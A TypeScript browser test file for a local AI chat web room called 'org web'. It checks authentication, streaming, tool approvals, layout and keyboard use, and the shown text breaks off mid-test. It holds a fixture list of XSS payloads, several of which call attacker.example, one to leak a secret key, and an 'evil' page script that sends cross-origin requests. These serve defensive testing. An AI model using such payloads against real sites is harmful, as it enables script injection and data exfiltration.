// The web room in Chromium, through `org web` as a user starts it, against the scripted model server: the login and
// the auth, two personas streaming at once, an approval answered, a reload mid-reply, the keyboard, the phone, and a
// corpus of hostile replies that runs nothing and sends nothing out (issue 53). One browser and one org web for all.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { type AddressInfo, connect, createServer, type Socket } from "node:net";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { writeLongSession } from "../testing/long-session.ts";
import { screenshotsDir, startWebRoom, type WebRoomFixture } from "../testing/web-room-fixture.ts";
import { waitUntil } from "../testing/wait-until.ts";

/** waitUntil, looking every 100 ms: each look is a round trip to the page, costing Chromium and this process CPU. */
const until = (what: string, check: () => boolean | Promise<boolean>, timeoutMs?: number) => waitUntil(what, check, timeoutMs, 100);
import { PAGE_KEY_FRAGMENT, PAGE_KEY_HEADER } from "../serve/page-key-names.ts";

const LONG = "Agent writes a careful answer word by word for the watchers. ".repeat(8).trim();
const BESIDE = "Python answers beside agent at the very same time in its own lane. ".repeat(8).trim();
const STORY = "Once upon a time a reply kept streaming while the page went away and came back. ".repeat(10).trim();

// Everything a model might write to get a script run or a request out of the page.
const HOSTILE = [
  "Hostile corpus follows.",
  '<script>window.__pwned = "script"</script>',
  '<img src="x" onerror="window.__pwned = \'img\'">',
  "[click me](javascript:window.__pwned='link')",
  "![exfil](https://attacker.example/leak?secret=sk-abc)",
  '<iframe src="https://attacker.example/frame"></iframe>',
  '<svg onload="window.__pwned = \'svg\'"><circle r="1"/></svg>',
  "<style>body { background: url(https://attacker.example/css) }</style>",
  '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
  '<form action="https://attacker.example/form"><button>go</button></form>',
  '<link rel="stylesheet" href="https://attacker.example/x.css">',
  '<object data="https://attacker.example/object"></object>',
  '<div style="background:url(https://attacker.example/style)" onclick="window.__pwned=\'div\'">styled</div>',
  "[a fine link](https://example.org/fine)",
].join("\n\n");

// What could push a phone's page sideways: an unbroken word, a long code line, a wide table, a long address.
const WIDE = [
  `An unbroken word: ${"x".repeat(600)}`,
  "```",
  `const line = "${"y".repeat(600)}";`,
  "```",
  `| ${Array.from({ length: 12 }, (_, index) => `column ${index}`).join(" | ")} |`,
  `|${" --- |".repeat(12)}`,
  `| ${Array.from({ length: 12 }, () => "a cell of some width").join(" | ")} |`,
  `[a long address](https://example.org/${"z".repeat(400)})`,
].join("\n\n");

const ROWS_SCRIPT = ["# list the rows one by one", ...Array.from({ length: 12 }, (_, index) => `echo "row ${index + 1}"`)].join("\n");

const SCRIPT = {
  rules: [
    // About five seconds each, in 16-character chunks: a quarter of the deltas (each drawn by the page) of 4-character ones.
    { when: { persona: "agent", lastMessage: "both" }, reply: { text: LONG, chunkSize: 16, delayMs: 160 } },
    { when: { persona: "python", lastMessage: "both" }, reply: { text: BESIDE, chunkSize: 16, delayMs: 160 } },
    // A long script, as the playground's agent writes: its lane shows it as one line until asked for the whole.
    { when: { persona: "agent", lastMessage: "a last time" }, reply: { toolCalls: [{ name: "sh", arguments: { cmd: ROWS_SCRIPT } }] } },
    {
      when: { persona: "agent", lastMessage: "list the lines" },
      reply: { toolCalls: [{ name: "sh", arguments: { cmd: "seq 1 12 | sed 's/^/row /'" } }] },
    },
    { when: { persona: "agent", lastTool: "sh" }, reply: { text: "The command printed twelve lines." } },
    // About five seconds of streaming, in 41 chunks: the reload and the cut below come as soon as it has begun, well before it ends.
    { when: { persona: "agent", lastMessage: "story" }, reply: { text: STORY, chunkSize: 20, delayMs: 120 } },
    { when: { persona: "python", lastMessage: "endless" }, reply: { text: "and on ".repeat(400), chunkSize: 4, delayMs: 50 } },
    { when: { persona: "agent", lastMessage: "wide things" }, reply: { text: WIDE } },
    { when: { persona: "agent", lastMessage: "hostile" }, reply: { reasoning: "<img src=x onerror=\"window.__pwned='thinking'\">", text: HOSTILE } },
  ],
  fallback: { text: "ok" },
};

const CONFIG = {
  personas: [
    { name: "agent", kind: "agent", tools: { sh: "ask" } },
    { name: "python", kind: "python" },
  ],
  limits: { concurrencyPerServer: 4 },
};

let room: WebRoomFixture;
let page: Page;
/** Every request the page made, by URL. */
const requests: string[] = [];

beforeAll(async () => {
  room = await startWebRoom({ script: SCRIPT, config: CONFIG });
  ({ page } = await room.open());
  page.on("request", (request) => requests.push(request.url()));
}, 120_000);

afterAll(async () => {
  await room?.[Symbol.asyncDispose]();
});

const lane = (name: string) => page.getByRole("region", { name });
/** What a program elsewhere (a phone, the CLI) sends: the server's token. */
const bearer = () => ({ authorization: `Bearer ${new URL(room.loginUrl).searchParams.get("token") ?? ""}` });
const laneText = async (name: string) => (await lane(name).textContent()) ?? "";

async function send(text: string): Promise<void> {
  await page.getByText(/· live ·/).waitFor();
  await page.getByRole("textbox", { name: "Message" }).fill(text);
  await page.getByRole("button", { name: "Send" }).click();
}

/**
 * A TCP relay to org web at `port` whose connections can be cut (`cut`), and refused while `down` (counted in `refused`):
 * a page opened through it loses its connections as a page does when the server goes away.
 */
async function relayTo(port: number) {
  const pairs = new Set<Socket>();
  const relay = createServer((client) => {
    if (state.down) {
      state.refused += 1;
      return void client.destroy();
    }
    const upstream = connect(port, "127.0.0.1");
    for (const socket of [client, upstream]) {
      pairs.add(socket);
      socket.on("error", () => undefined);
      socket.on("close", () => pairs.delete(socket));
    }
    client.pipe(upstream).pipe(client);
    client.on("close", () => upstream.destroy());
    upstream.on("close", () => client.destroy());
  });
  await new Promise<void>((resolve) => relay.listen(0, "127.0.0.1", resolve));
  const state = {
    origin: `http://127.0.0.1:${(relay.address() as AddressInfo).port}`,
    down: false,
    refused: 0,
    cut: () => {
      for (const socket of pairs) socket.destroy();
    },
    async [Symbol.asyncDispose]() {
      state.cut();
      relay.close();
    },
  };
  return state;
}

describe("org web in Chromium", () => {
  test("the URL it prints logs the browser in; without the token or its cookie every route is 401", async () => {
    expect(room.stdout.trim().split("\n")).toHaveLength(1);
    const token = new URL(room.loginUrl).searchParams.get("token") ?? "";
    expect(token.length).toBeGreaterThan(30);
    for (const path of ["/", "/changes", "/v1/sessions", "/v1/changes", "/assets/app.js", "/v1/web/updates"]) {
      expect((await fetch(`${room.origin}${path}`)).status).toBe(401);
    }
    expect((await fetch(`${room.origin}/?token=not-the-token`)).status).toBe(401);
    // A page asked for without a login is a page a person can read; a route for programs keeps its JSON.
    expect((await fetch(`${room.origin}/changes`)).headers.get("content-type")).toStartWith("text/html");
    expect(((await (await fetch(`${room.origin}/v1/sessions`)).json()) as { error: { status: number } }).error.status).toBe(401);
    // Logged in: the address bar holds no token, the cookie is HttpOnly and SameSite=Strict, no script can read it.
    expect(new URL(page.url()).pathname).toBe("/");
    expect(new URL(page.url()).searchParams.has("token")).toBe(false);
    const [cookie] = await page.context().cookies();
    expect(cookie).toMatchObject({ httpOnly: true, sameSite: "Strict" });
    expect(await page.evaluate("document.cookie")).toBe("");
    // The page's key: moved from the login's fragment to this origin's storage, gone from the address.
    expect(new URL(page.url()).hash).toBe("");
    const key = String(await page.evaluate(`localStorage.getItem(${JSON.stringify(PAGE_KEY_FRAGMENT)})`));
    expect(key).toMatch(/^[\w-]{43}$/);
    // The cookie as another port of 127.0.0.1 would receive it, replayed by a program: nothing of the room opens.
    const replayed = { cookie: `${cookie?.name}=${cookie?.value}` };
    const sessions = `${room.origin}/v1/sessions`;
    expect((await fetch(sessions, { headers: replayed })).status).toBe(401);
    expect((await fetch(`${room.origin}/v1/web/updates`, { headers: { ...replayed, accept: "text/event-stream" } })).status).toBe(401);
    const posted = await fetch(sessions, { method: "POST", headers: { ...replayed, "content-type": "application/json" }, body: "{}" });
    expect(posted.status).toBe(401);
    expect(await posted.text()).toContain("the session cookie alone opens nothing");
    expect((await fetch(sessions, { headers: { ...replayed, [PAGE_KEY_HEADER]: key } })).status).toBe(200);
    const answer = await page.request.get(`${room.origin}/`);
    const csp = answer.headers()["content-security-policy"] ?? "";
    expect(csp).toContain("script-src 'self'");
    expect(csp).not.toContain("unsafe-inline");
    expect(csp).not.toContain("unsafe-eval");
    expect(csp).toContain("img-src 'self'");
    expect(csp).toContain("connect-src 'self'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(answer.headers()).toMatchObject({ "x-content-type-options": "nosniff", "referrer-policy": "no-referrer" });
    expect(await page.content()).not.toContain(token);
    // The bundle's files: gzipped for a browser that takes it, kept for good (named by their content's hash).
    const script = (await page.content()).match(/\/assets\/app-[0-9a-f]+\.js/)?.[0] ?? "/assets/none.js";
    const gzipped = await page.request.get(`${room.origin}${script}`, { headers: { "accept-encoding": "gzip" } });
    expect(gzipped.headers()).toMatchObject({ "content-encoding": "gzip", "cache-control": "private, max-age=31536000, immutable" });
    const plain = await page.request.get(`${room.origin}${script}`, { headers: { "accept-encoding": "identity" } });
    expect(plain.headers()["content-encoding"]).toBeUndefined();
    expect(await plain.text()).toBe(await gzipped.text());
  });

  test("two personas answer at once, each in its own lane, both growing in the same instant, then their figures", async () => {
    await send("hello both of you");
    // Both lanes hold part of their reply while both are still writing.
    await until(
      "both lanes growing at once",
      async () => {
        const [agent, python] = [await laneText("agent"), await laneText("python")];
        return agent.includes("Agent writes") && python.includes("Python answers") && agent.includes("writing…") && python.includes("writing…");
      },
      30_000,
    );
    await until(
      "both replies ended with their figures",
      async () => /tokens\/s/.test(await laneText("agent")) && /tokens\/s/.test(await laneText("python")),
      60_000,
    );
    expect(await laneText("agent")).toContain(LONG);
    expect(await laneText("python")).toContain(BESIDE);
    expect(await laneText("agent")).toMatch(/\d+ tokens · [\d.]+ tokens\/s · [\d.]+ s/);
    // Each lane names its model's window and where it came from (the scripted server says none: org's default).
    expect(await lane("agent").locator(".lane-window").textContent()).toBe(" 4096-token window (default)");
    await page.screenshot({ path: join(screenshotsDir(), "room.png") });
  }, 120_000);

  test("on a phone (390 × 844) the room fits: the lanes stacked, the message box and Send on screen, no view scrolls sideways", async () => {
    const phone = await room.open({ width: 390, height: 844 });
    try {
      await phone.page.getByRole("region", { name: "agent" }).waitFor();
      for (const control of [phone.page.getByRole("textbox", { name: "Message" }), phone.page.getByRole("button", { name: "Send" })]) {
        const box = await control.boundingBox();
        expect(box).not.toBeNull();
        expect((box?.y ?? 0) + (box?.height ?? 0)).toBeLessThanOrEqual(844);
        expect((box?.x ?? 0) + (box?.width ?? 0)).toBeLessThanOrEqual(390);
      }
      await phone.page.screenshot({ path: join(screenshotsDir(), "room-phone.png") });
      for (const name of ["Room", "Changes", "Tools", "Candidates", "Growth", "Supervisor", "Memory"]) {
        await phone.page.getByRole("navigation").getByRole("link", { name, exact: true }).click();
        await phone.page.getByRole("heading", { name, level: 1 }).waitFor();
        const widths = (await phone.page.evaluate(
          "({ scroll: document.documentElement.scrollWidth, client: document.documentElement.clientWidth })",
        )) as {
          scroll: number;
          client: number;
        };
        expect(widths.scroll).toBeLessThanOrEqual(widths.client);
      }
    } finally {
      await phone.context.close();
    }
  }, 60_000);

  test("on a phone, a reply with an unbroken word, a long code line, a wide table and a long address scrolls nothing sideways", async () => {
    const phone = await room.open({ width: 390, height: 844 });
    try {
      const sideways = async () =>
        (await phone.page.evaluate("({ scroll: document.documentElement.scrollWidth, client: document.documentElement.clientWidth })")) as {
          scroll: number;
          client: number;
        };
      await phone.page.getByText(/· live ·/).waitFor();
      await phone.page.getByRole("textbox", { name: "Message" }).fill("@agent show me wide things");
      await phone.page.getByRole("button", { name: "Send" }).click();
      const agent = phone.page.getByRole("region", { name: "agent" });
      // This turn's reply, ended (the lane showed the turn before until this one began).
      await until(
        "the wide reply ended",
        async () => {
          const text = (await agent.textContent()) ?? "";
          return text.includes("x".repeat(600)) && /\d+ tokens? · /.test(text);
        },
        30_000,
      );
      const widths = await sideways();
      expect(widths.scroll).toBeLessThanOrEqual(widths.client);
      // The next turn moves it up into the transcript, which must not scroll sideways either.
      await phone.page.getByRole("textbox", { name: "Message" }).fill("@python and now?");
      await phone.page.getByRole("button", { name: "Send" }).click();
      await phone.page
        .getByRole("region", { name: "python" })
        .getByText(/\d+ tokens? · /)
        .waitFor({ timeout: 30_000 });
      await phone.page.locator(".scroller").getByText("x".repeat(600), { exact: false }).waitFor();
      const after = await sideways();
      expect(after.scroll).toBeLessThanOrEqual(after.client);
      const scroller = await phone.page.locator(".scroller").evaluate((element) => ({ scroll: element.scrollWidth, client: element.clientWidth }));
      expect(scroller.scroll).toBeLessThanOrEqual(scroller.client);
      // The send button is still on screen beside it.
      const send = await phone.page.getByRole("button", { name: "Send" }).boundingBox();
      expect((send?.x ?? 0) + (send?.width ?? 0)).toBeLessThanOrEqual(390);
    } finally {
      await phone.context.close();
    }
  }, 60_000);

  test("approvals: Approve, Deny and Always in the lane; one answered over HTTP leaves the page; Always asks no more", async () => {
    await send("@agent list the lines please");
    const approve = lane("agent").getByRole("button", { name: "Approve" });
    await approve.waitFor({ timeout: 30_000 });
    // The room offers always (as the terminal's [a]lways): the page shows what the question offers.
    for (const name of ["Deny", "Always"]) expect(await lane("agent").getByRole("button", { name }).isVisible()).toBe(true);
    await page.screenshot({ path: join(screenshotsDir(), "approval.png") });
    await approve.click();
    await until("the reply after the tool", async () => (await laneText("agent")).includes("The command printed twelve lines."), 60_000);
    const text = await laneText("agent");
    expect(text).toContain("⚙ sh");
    expect(text).toContain("row 1");
    expect(text).not.toContain("row 12");
    await lane("agent")
      .getByRole("button", { name: /Show whole output/ })
      .click();
    expect(await laneText("agent")).toContain("row 12");
    expect(text).toContain("answered yes by web");

    // Answered elsewhere (a phone, over HTTP): the question leaves the page, saying who answered.
    await send("@agent list the lines again");
    await approve.waitFor({ timeout: 30_000 });
    const session = new URL(page.url()).searchParams.get("session") ?? "";
    const opened = (await (await page.request.get(`${room.origin}/v1/sessions/${session}`, { headers: bearer() })).json()) as {
      pendingApprovals: { approvalId: string }[];
    };
    const [question] = opened.pendingApprovals;
    const answered = await page.request.post(`${room.origin}/v1/sessions/${session}/approvals/${question?.approvalId}`, {
      data: { answer: "no", by: "phone" },
      headers: bearer(),
    });
    expect(answered.status()).toBe(200);
    await lane("agent").getByText("answered no by phone").waitFor();
    expect(await lane("agent").getByRole("button", { name: "Approve" }).count()).toBe(0);
    await until("the turn after the denial", async () => !(await laneText("agent")).includes("writing…"), 30_000);

    // Always: this call runs, and the next of the same tool is not asked about.
    await send("@agent list the lines once more");
    await lane("agent").getByRole("button", { name: "Always" }).click({ timeout: 30_000 });
    await lane("agent").getByText("answered always by web").waitFor();
    await until("the reply after the tool", async () => (await laneText("agent")).includes("The command printed twelve lines."), 60_000);
    await send("@agent list the lines a last time");
    // The new turn's reply: the tool ran and its output shows, with no question in it.
    await until(
      "the unasked run's reply",
      async () => {
        const now = await laneText("agent");
        return now.includes("The command printed twelve lines.") && now.includes("row 1") && !now.includes("answered");
      },
      60_000,
    );
    expect(await lane("agent").locator("fieldset.approval").count()).toBe(0);
    // Its long script is one line, cut, until asked for whole; then each line of it as written.
    const folded = await laneText("agent");
    expect(folded).toContain('{"cmd":"# list the rows one by one\\necho \\"row 1\\"');
    expect(folded).not.toContain('echo "row 12"');
    await lane("agent").getByRole("button", { name: "Show whole arguments" }).click();
    expect(await lane("agent").locator("pre.tool-args").textContent()).toBe(`cmd:\n${ROWS_SCRIPT}`);
    // Short replies streamed too briefly for a rate: none is shown (never "0.0 tokens/s"), as in the terminal.
    expect(await page.locator("body").textContent()).not.toContain("0.0 tokens/s");
  }, 180_000);

  test("the room's commands from the message box, read by its one interpreter: /output, /mode, /wish, /diff, /undo, /help", async () => {
    const said = (title: string) => page.getByRole("region", { name: `${title} output` });
    // The sh calls of the approvals test: /output 1 is the first result, whole.
    await send("/output 1");
    await said("Output").getByText("row 12", { exact: false }).waitFor({ timeout: 10_000 });
    await send("/mode direct:python");
    await said("Mode").getByText("direct:python").waitFor({ timeout: 10_000 });
    await send("/mode group");
    await said("Mode").getByText("group").waitFor({ timeout: 10_000 });
    await send("/wish convert CSV files to JSON");
    await said("Wish")
      .getByText(/^wished: org grow reads it/)
      .waitFor({ timeout: 10_000 });
    await send("/diff");
    await said("Diff").getByText("(no workspace change in this session yet)").waitFor({ timeout: 10_000 });
    // Nothing to undo is the domain's refusal, said in one line.
    await send("/undo");
    await page.getByRole("alert").getByText(/undo/i).waitFor({ timeout: 10_000 });
    await send("/help");
    await said("Help").getByText("/context [persona]", { exact: false }).waitFor({ timeout: 10_000 });
    await send("/frobnicate");
    await page
      .getByRole("alert")
      .getByText("unknown command /frobnicate. Type /help for the list, or // to send a message starting with /.")
      .waitFor();
    await page.getByRole("button", { name: "Close" }).click();
  }, 60_000);

  test("the views with nothing in them yet say what each part holds and how it fills", async () => {
    // No supervisor ever ran in this workspace: Checks and Fixes are not empty headings.
    await page.getByRole("navigation").getByRole("link", { name: "Supervisor", exact: true }).click();
    await page.getByText(/^No check has run yet: each round of org supervise \(or org web --supervise\) checks/).waitFor({ timeout: 20_000 });
    await page.getByText(/^No fix yet: when a round finds an incident it knows a fix for, the fix shows here/).waitFor();
    await page.getByRole("navigation").getByRole("link", { name: "Memory", exact: true }).click();
    await page.getByText(/^Every session's messages, tool calls and short tool results, indexed as the transcript is written/).waitFor();
    await page.getByRole("navigation").getByRole("link", { name: "Room", exact: true }).click();
    await page.getByRole("textbox", { name: "Message" }).waitFor();
  }, 60_000);

  test("a reload mid-reply loses nothing: the transcript comes back and the reply goes on streaming", async () => {
    await send("@agent tell me a story");
    await until("the story has begun", async () => (await laneText("agent")).includes("Once upon a time"), 30_000);
    expect(await laneText("agent")).toContain("writing…");
    await page.reload();
    await until("the story back after the reload", async () => (await laneText("agent")).includes("Once upon a time"), 30_000);
    await until("the story ended", async () => /tokens\/s/.test(await laneText("agent")), 60_000);
    expect(await laneText("agent")).toContain(STORY);
    // The earlier turns are in the transcript above the lanes.
    expect(await page.getByText("hello both of you").count()).toBeGreaterThan(0);
  }, 120_000);

  test("the connection lost mid-reply and back loses nothing: the stream resumes from the last event it had", async () => {
    await using relay = await relayTo(Number(new URL(room.origin).port));
    const watcher = await room.open({ login: false });
    try {
      const session = new URL(page.url()).searchParams.get("session") ?? "";
      const login = new URL(room.loginUrl);
      await watcher.page.goto(`${relay.origin}/?session=${session}&token=${login.searchParams.get("token")}`);
      await watcher.page.getByText(/· live ·/).waitFor();
      const watched = async () => (await watcher.page.getByRole("region", { name: "agent" }).textContent()) ?? "";
      await send("@agent tell me a story");
      await until("the story has begun", async () => (await watched()).includes("Once upon a time"), 30_000);
      relay.down = true;
      relay.cut();
      await watcher.page.getByText(/· reconnecting ·/).waitFor({ timeout: 10_000 });
      // Down for a while: until the page has tried again and been refused.
      await until("a try to reconnect refused", () => relay.refused > 0, 20_000);
      relay.down = false;
      await watcher.page.getByText(/· live ·/).waitFor({ timeout: 20_000 });
      await until("the story ended", async () => /tokens\/s/.test(await watched()), 60_000);
      const text = await watched();
      // Whole, and each part once: nothing missed while cut off, nothing drawn twice after.
      expect(text).toContain(STORY);
      expect(text.split("Once upon a time").length).toBe(STORY.split("Once upon a time").length);
    } finally {
      await watcher.context.close();
    }
  }, 120_000);

  test("a tab whose login the server no longer takes (org web restarted) says to open the printed URL; its reload is a page saying so", async () => {
    // A restart makes a new token, so the browser's cookie is no longer taken: the same as a cookie gone, then a cut.
    await using relay = await relayTo(Number(new URL(room.origin).port));
    const tab = await room.open({ login: false });
    try {
      await tab.page.goto(`${relay.origin}/?token=${new URL(room.loginUrl).searchParams.get("token")}`);
      await tab.page.getByText(/· live ·/).waitFor();
      await tab.context.clearCookies();
      relay.cut();
      const status = tab.page.getByRole("status").filter({ hasText: "org web restarted" });
      await status.waitFor({ timeout: 20_000 });
      expect(await status.textContent()).toContain("open the URL that org web printed in its terminal");
      expect(await tab.page.getByText(/· logged-out ·/).count()).toBe(1);
      const reloaded = await tab.page.reload();
      expect(reloaded?.status()).toBe(401);
      expect(reloaded?.headers()["content-type"]).toStartWith("text/html");
      expect(await tab.page.getByRole("heading", { level: 1 }).textContent()).toBe("This room needs its login again");
      expect(await tab.page.textContent("body")).toContain("open the URL that org web printed in its terminal");
    } finally {
      await tab.context.close();
    }
  }, 60_000);

  test("a long session opens at its newest turns; scrolling up reads the earlier ones, each once", async () => {
    // 200 turns: the page's newest 25, then four earlier pages of up to 50 (ROOM_OLDER_MESSAGES), twice the items
    // the list may draw at once.
    const turns = 200;
    const session = writeLongSession(room.workspace, turns);
    const long = await room.open();
    const pagesRead: string[] = [];
    long.page.on("request", (request) => {
      if (request.url().includes("/transcript?before=")) pagesRead.push(request.url());
    });
    try {
      // Picked from the room's list of sessions, as one started in the terminal would be.
      await long.page.goto(`${room.origin}/?session=${new URL(page.url()).searchParams.get("session")}`);
      await long.page.getByRole("combobox", { name: "Session" }).selectOption(session);
      await until("the session in the address", () => new URL(long.page.url()).searchParams.get("session") === session, 20_000);
      // The transcript (the session picker above it names the session by its first question too).
      const scroller = long.page.locator(".scroller");
      await scroller.getByText(`Answer ${turns - 1}.`).waitFor();
      expect(await scroller.getByText("question 0:", { exact: false }).count()).toBe(0);
      // Two asks for the earlier page before the page draws again (two scroll events, a double click) read it once.
      await long.page.getByRole("button", { name: "Earlier messages" }).waitFor();
      await long.page.evaluate(
        `(() => {
          const button = [...document.querySelectorAll("button")].find((b) => b.textContent.includes("Earlier messages"));
          // Already reading (the list asked as it opened near its start): nothing to click.
          button?.click();
          button?.click();
        })()`,
      );
      await until("the first earlier page read", () => pagesRead.length > 0, 20_000);
      // Up to the first turn, scrolling the transcript to its top again and again: each time an earlier page comes, and
      // what was in view stays in place. Once none is left (no "Earlier messages"), the top is the session's first turn.
      const toTop = () =>
        scroller.evaluate((element) => {
          element.scrollTop = 0;
        });
      await until(
        "every earlier page read",
        async () => {
          await toTop();
          return (await long.page.getByRole("button", { name: /Earlier messages|Reading earlier messages/ }).count()) === 0;
        },
        60_000,
      );
      await until(
        "the session's first turns on screen",
        async () => {
          await toTop();
          const drawn = async (text: string) => await scroller.getByText(text, { exact: false }).count();
          return (await drawn("question 0: how")) === 1 && (await drawn("question 1: how")) === 1 && (await drawn("question 2: how")) === 1;
        },
        20_000,
      );
      expect(pagesRead.length).toBeGreaterThan(2);
      expect(new Set(pagesRead).size).toBe(pagesRead.length);
      expect(await long.page.locator(".virtual-item").count()).toBeLessThan(100);
    } finally {
      await long.context.close();
    }
  }, 120_000);

  test("a session opened from its address draws each turn once, in order: the page's own in two parts, then earlier pages", async () => {
    // 60 turns: the page holds the newest 25, the room checks and draws its newest dozen first and the rest after the
    // first frame; scrolling up reads the 35 before them from the server.
    const session = writeLongSession(room.workspace, 60, "20261126-130000-long02");
    const long = await room.open();
    try {
      await long.page.goto(`${room.origin}/?session=${session}`);
      const scroller = long.page.locator(".scroller");
      await scroller.getByText("Answer 59.").waitFor();
      const scrollTo = (top: number) =>
        scroller.evaluate((element, to) => {
          element.scrollTop = to;
        }, top);
      await until(
        "every earlier page read",
        async () => {
          await scrollTo(0);
          return (await long.page.getByRole("button", { name: /Earlier messages|Reading earlier messages/ }).count()) === 0;
        },
        60_000,
      );
      // Top to bottom, half a view at a time: each finished turn's place in the list, as drawn.
      const places = new Map<string, Set<number>>();
      const { height, view } = await scroller.evaluate((element) => ({ height: element.scrollHeight, view: element.clientHeight }));
      for (let top = 0; top <= height; top += Math.max(100, Math.floor(view / 2))) {
        await scrollTo(top);
        await long.page.evaluate("new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))");
        const items = (await long.page.evaluate(
          `[...document.querySelectorAll(".virtual-item")].map((item) => [item.dataset.key, Number(item.dataset.index), item.textContent])`,
        )) as [string, number, string][];
        for (const [key, index, text] of items) {
          places.set(key, (places.get(key) ?? new Set()).add(index));
          expect(text).toContain(`Answer ${key.slice(1)}.`);
        }
      }
      // The newest turn is drawn in the lanes; the 59 before it are the list, each at its own place.
      expect([...places].map(([key, at]) => `${key}@${[...at].join(",")}`).sort()).toEqual(
        Array.from({ length: 59 }, (_, turn) => `t${turn}@${turn}`).sort(),
      );
    } finally {
      await long.context.close();
    }
  }, 120_000);

  test("keyboard only: Enter sends, Shift+Enter is a new line, Escape stops the replies, Tab reaches every button", async () => {
    const box = page.getByRole("textbox", { name: "Message" });
    await box.focus();
    await page.keyboard.type("@python endless");
    await page.keyboard.press("Shift+Enter");
    await page.keyboard.type("please");
    expect(await box.inputValue()).toBe("@python endless\nplease");
    await page.keyboard.press("Enter");
    await until("python writing", async () => (await laneText("python")).includes("and on"), 30_000);
    await page.keyboard.press("Escape");
    await until("python stopped", async () => !(await laneText("python")).includes("writing…"), 30_000);
    // Every button of the page takes the focus by Tab alone.
    const buttons = await page.getByRole("button").count();
    const reached = new Set<string>();
    await page.locator("body").focus();
    for (let press = 0; press < 200 && reached.size < buttons; press += 1) {
      await page.keyboard.press("Tab");
      // Page code as a string: this file is typed without the DOM's names.
      const focused = await page.evaluate('[...document.querySelectorAll("button")].indexOf(document.activeElement)');
      if (typeof focused === "number" && focused >= 0) reached.add(String(focused));
    }
    expect(reached.size).toBe(buttons);
  }, 120_000);

  test("a hostile reply runs no script and sends no request out of the origin", async () => {
    await send("@agent hostile please");
    await until("the hostile reply shown", async () => (await laneText("agent")).includes("a fine link"), 30_000);
    await page.locator("summary", { hasText: "Thinking" }).last().click();
    await Bun.sleep(300);
    expect(await page.evaluate("window.__pwned")).toBeUndefined();
    // Page code as a string: this file is typed without the DOM's names.
    const found = (await page.evaluate(`(() => {
      const element = document.querySelector('[aria-label="agent"]');
      return {
        tags: [...element.querySelectorAll("script, img, iframe, svg, style, form, link, object, embed")].map((node) => node.tagName),
        handlers: [...element.querySelectorAll("*")].flatMap((node) => [...node.attributes].filter((a) => a.name.startsWith("on")).map((a) => a.name)),
        styles: element.querySelectorAll("[style]").length,
        hrefs: [...element.querySelectorAll("a")].map((anchor) => anchor.getAttribute("href")),
      };
    })()`)) as { tags: string[]; handlers: string[]; styles: number; hrefs: (string | null)[] };
    expect(found.tags).toEqual([]);
    expect(found.handlers).toEqual([]);
    expect(found.styles).toBe(0);
    expect(found.hrefs.filter((href) => href !== null && !/^https?:/.test(href))).toEqual([]);
    expect(await laneText("agent")).toContain("<script>");
    expect(await laneText("agent")).toContain("[image: exfil] (https://attacker.example/leak?secret=sk-abc)");
    expect(requests.filter((url) => !url.startsWith(room.origin))).toEqual([]);
    // Reloaded, the page reads the hostile reply again: it is drawn again, and still nothing runs or leaves.
    await page.reload();
    await until("the hostile reply back after the reload", async () => (await laneText("agent")).includes("a fine link"), 30_000);
    await Bun.sleep(300);
    expect(await page.evaluate("window.__pwned")).toBeUndefined();
    expect(await laneText("agent")).toContain("<script>");
    expect(requests.filter((url) => !url.startsWith(room.origin))).toEqual([]);
  }, 60_000);

  test("the page holds nothing of the room; reloaded, it reads its opening once with its key and opens the stream with its ticket", async () => {
    const session = new URL(page.url()).searchParams.get("session") ?? "";
    const html = await (await page.request.get(`${room.origin}/?session=${session}`)).text();
    expect(html).not.toContain(session);
    expect(html).not.toContain("Hostile corpus");
    const before = requests.length;
    await page.reload();
    await page.getByText(/· live ·/).waitFor();
    const asked = requests.slice(before).map((url) => new URL(url));
    // One read opens the room (its state and a ticket), then its stream; the state is not asked for again.
    expect(asked.filter((url) => url.pathname === "/v1/web/opening").map((url) => url.searchParams.get("session"))).toEqual([session]);
    expect(asked.filter((url) => url.pathname === `/v1/sessions/${session}` || url.pathname === "/v1/stream-tickets")).toEqual([]);
    const streams = asked.filter((url) => url.pathname === `/v1/sessions/${session}/events`);
    expect(streams).toHaveLength(1);
    expect(streams[0]?.searchParams.has("after")).toBe(true);
    expect(streams[0]?.searchParams.get("ticket")).toMatch(/^\d+\.[\w-]{43}$/);
    // Neither the key nor the ticket is in any address but the stream's (a ticket good for a minute, for streams only).
    const key = String(await page.evaluate(`localStorage.getItem(${JSON.stringify(PAGE_KEY_FRAGMENT)})`));
    expect(requests.filter((url) => url.includes(key))).toEqual([]);
  }, 60_000);

  test("a page on another origin gets 403 for a POST, a read and both event streams (same-site: another port of 127.0.0.1)", async () => {
    const sessions = (await (await page.request.get(`${room.origin}/v1/sessions`, { headers: bearer() })).json()) as { sessions: { id: string }[] };
    const session = sessions.sessions[0]?.id ?? "";
    // A page elsewhere on loopback (the same site, so the SameSite cookie would go along).
    const evil = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      fetch: () =>
        new Response(
          `<!doctype html><script>
            fetch(${JSON.stringify(`${room.origin}/v1/sessions/${session}/messages`)}, { method: "POST", mode: "no-cors", credentials: "include", headers: { "content-type": "text/plain" }, body: '{"text":"from elsewhere"}' });
            fetch(${JSON.stringify(`${room.origin}/v1/changes/undo`)}, { method: "POST", mode: "no-cors", credentials: "include", body: "{}" });
            new EventSource(${JSON.stringify(`${room.origin}/v1/sessions/${session}/events`)}, { withCredentials: true });
            new EventSource(${JSON.stringify(`${room.origin}/v1/web/updates`)}, { withCredentials: true });
            fetch(${JSON.stringify(`${room.origin}/v1/sessions/${session}`)}, { mode: "no-cors", credentials: "include" });
            fetch(${JSON.stringify(`${room.origin}/v1/sessions/${session}/events`)}, { mode: "no-cors", credentials: "include" });
          </script>`,
          { headers: { "content-type": "text/html" } },
        ),
    });
    // The browser hides the answers from the page (and from playwright); the server's own count of them says 403.
    const refused = async () => {
      const metrics = await (await page.request.get(`${room.origin}/metrics`, { headers: bearer() })).text();
      const count = (route: string, method: string) =>
        Number(
          new RegExp(`org_http_requests_total\\{route="${route.replace(/[/:]/g, (c) => `\\${c}`)}",method="${method}",status="403"\\} (\\d+)`).exec(
            metrics,
          )?.[1] ?? 0,
        );
      return [
        count("/v1/sessions/:id/messages", "POST"),
        count("/v1/changes/undo", "POST"),
        count("/v1/sessions/:id/events", "GET"),
        count("/v1/web/updates", "GET"),
